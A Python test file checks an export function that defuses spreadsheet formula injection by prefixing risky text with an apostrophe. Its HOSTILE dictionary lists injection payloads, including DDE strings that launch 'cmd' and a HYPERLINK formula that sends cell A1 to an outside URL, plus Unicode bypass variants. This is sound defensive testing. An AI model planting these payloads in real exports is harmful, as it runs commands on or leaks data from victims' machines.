"""No text of an export can be run as a formula, and each can be had back."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from practices.exports import neutral

HOSTILE = {
    "formula": '=HYPERLINK("https://example.org/?"&A1,"Click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage-return": "\r=1+1",
    "line-feed": "\n=1+1",
    "spaces": "  =1+1",
    "no-break-space": "\u00a0=1+1",
    "zero-width-space": "\u200b=1+1",
    "byte-order-mark": "\ufeff=1+1",
    "control-character": "\x01=1+1",
    "full-width-equals": "\uff1d1+1",
    "full-width-plus": "\uff0b1",
    "full-width-minus": "\uff0d1",
    "full-width-at": "\uff20SUM(1)",
    "small-equals": "\ufe661+1",
    "only-a-sign": "=",
}
HARMLESS = ["", "Ville", "1 = 1", "a@example.org", "'s-Hertogenbosch", "Ελλάδα +1", "#N/A", "\u2212 5 °C", "(=1)"]


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_a_text_that_might_be_run_gets_an_apostrophe(text):
    assert neutral(text) == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
def test_any_other_text_stays_as_it_is(text):
    assert neutral(text) == text


@pytest.mark.parametrize("number", [-1, -1.5, 0, None, True])
def test_what_is_no_text_stays_as_it_is(number):
    assert neutral(number) is number


@given(st.text(alphabet="'=+-@ \t\r\na\u200b\uff1d"))
def test_taking_one_apostrophe_away_leads_back(text):
    made = neutral(text)
    one_more = made.startswith("'") and neutral(made) != made
    assert (made[1:] if one_more else made) == text


@given(st.text())
def test_no_text_is_left_with_a_sign_in_front(text):
    assert not re.match(r"[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]", neutral(text))
